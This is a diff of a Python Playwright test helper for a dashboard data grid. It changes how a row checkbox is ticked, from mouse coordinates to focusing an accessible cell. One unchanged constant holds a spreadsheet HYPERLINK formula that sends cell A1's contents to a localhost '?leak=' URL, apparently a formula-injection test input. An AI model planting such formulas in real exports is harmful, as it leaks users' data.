@@ -16,7 +16,6 @@ from tests.actions_helpers import job_status, make_failed_jobs
 from tests.browser.conftest import wait_for_script_idle
 from tests.dashboard_data import add_job
 
-ROW_PX = 35
 HYPERLINK = '=HYPERLINK("http://127.0.0.1/?leak="&A1,"click")'
 TIMEOUT_MS = 30_000
 
@@ -29,26 +28,22 @@ def open_app(page: Page, base_url: str, path: str = "") -> None:
 
 
 def tick_row(page: Page, row: int, selected_button: str, grid_index: int = 0) -> None:
-    """Tick the checkbox of the `row`-th data row (0 = first) of a data editor grid, until the
-    button `selected_button` (e.g. "Retry selected (1)") shows that the page saw it.
+    """Tick the checkbox (first column) of the `row`-th data row (0 = first) of a data editor
+    grid, until the button `selected_button` (e.g. "Retry selected (1)") shows the page saw it.
 
-    A click on the checkbox column toggles or only focuses depending on where it lands (the
-    checkbox is centred in a column whose width follows the page), so: focus a read-only
-    cell in the middle of the row, go to the row's first cell (Home), toggle with Space. On a
-    busy machine the grid may still be redrawing and drop the keys: then try again.
+    The grid is a canvas, but it keeps an accessible table beside it whose cells say
+    "true"/"false": focus that cell and press Space — no coordinates, and the cell's text tells
+    whether a tick landed (ticking again would untick it).
     """
     grid = page.locator("[data-testid='stDataFrame']").nth(grid_index)
+    cell = grid.locator(f"[data-testid='glide-cell-0-{row}']")
     button = page.get_by_role("button", name=selected_button)
     for _ in range(3):
         wait_for_script_idle(page)
-        expect(grid).to_be_visible(timeout=TIMEOUT_MS)
-        box = grid.bounding_box()
-        assert box is not None
-        page.mouse.click(box["x"] + box["width"] / 2, box["y"] + ROW_PX * (row + 1) + ROW_PX / 2)
-        page.keyboard.press("Home")
-        page.keyboard.press("Space")
+        if cell.text_content(timeout=TIMEOUT_MS) != "true":
+            cell.focus()
+            page.keyboard.press("Space")
         try:
-            # Long enough for a slow rerun: a second tick would untick the first.
             expect(button).to_be_visible(timeout=15_000)
             return
         except AssertionError:
